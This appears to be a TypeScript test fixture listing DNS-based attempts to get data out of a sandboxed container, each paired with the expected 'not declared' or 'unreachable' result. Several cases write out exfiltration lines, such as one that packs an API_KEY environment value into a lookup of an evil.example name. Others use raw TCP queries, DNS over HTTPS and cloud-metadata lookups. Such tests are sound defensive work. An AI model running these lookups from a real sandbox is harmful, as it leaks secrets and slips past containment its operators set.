import type { BypassCase } from '../bypass-case.ts'
import { onSocket } from '../represented.ts'

const undeclared = { blocked: 'which is not declared' }
const record = { MX: 15, TXT: 16, SRV: 33, HTTPS: 65 } as const

/** Attempts to reach a name server. */
const ways: readonly BypassCase[] = [
  { tried: 'an undeclared name', attack: "look_up('evil.example')", isAlone: true, ends: undeclared },
  {
    tried: 'an undeclared name, over TCP',
    attack: `
      query = b'\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4evil\\7example\\0\\0\\1\\0\\1'
      link = socket.create_connection(('127.0.0.1', 53), timeout=5)
      link.sendall(struct.pack('>H', len(query)) + query)
      report = len(link.recv(512))`,
    ends: undeclared,
  },
  {
    tried: 'a TXT record of a declared name',
    attack: "dns('api.example.com', 16)",
    ends: { reports: { code: 0, answers: 0 } },
  },
  {
    tried: 'a placeholder in a name',
    attack: "dns(os.environ['API_KEY'][:60] + '.' + 'a' * 60 + '.evil.example')",
    ends: undeclared,
  },
  {
    tried: 'a name server of its own choice',
    attack: "dns('s3cr3t.evil.example', 1, '9.9.9.9')",
    ends: { reports: 'unreachable' },
    endsInBridge: { reportsOnly: ['unreachable', 'no answer'] },
  },
  {
    tried: 'an undeclared name, sent to the engine’s name server',
    attack: "dns('s3cr3t.evil.example', 1, '127.0.0.11')",
    ends: { reports: 'refused' },
    endsInBridge: undeclared,
  },
]

/** Questions that the gateway answers. */
const questions: readonly BypassCase[] = [
  { tried: 'an undeclared name, in a hand-made query', attack: "dns('evil.example')", ends: undeclared },
  { tried: 'the IPv6 address of an undeclared name', attack: "dns('evil.example', 28)", ends: undeclared },
  { tried: 'the parent of a declared name', attack: "look_up('example.com')", ends: undeclared },
  {
    tried: 'a subdomain of a declared name, carrying data',
    attack: "look_up('s3cr3t.api.example.com')",
    ends: undeclared,
  },
  {
    tried: 'data in a name of the maximum length',
    attack: "dns('.'.join(['a' * 60] * 3 + ['evil', 'example']))",
    ends: undeclared,
  },
  ...Object.entries(record).map(
    ([name, kind]): BypassCase => ({
      tried: `data in a ${name} question for an undeclared name`,
      attack: `dns('s3cr3t.evil.example', ${kind})`,
      ends: undeclared,
    }),
  ),
  { tried: 'DNS over HTTPS', attack: "get('dns.google', '/resolve?name=s3cr3t.evil.example')", ends: undeclared },
  { tried: 'the host, by the engine’s name for it', attack: "look_up('host.docker.internal')", ends: undeclared },
  { tried: 'cloud metadata by its name', attack: "look_up('metadata.google.internal')", ends: undeclared },
]

/** Lookups, which could carry data out of the container. */
export const names: readonly BypassCase[] = [...ways, ...questions.map(onSocket)]
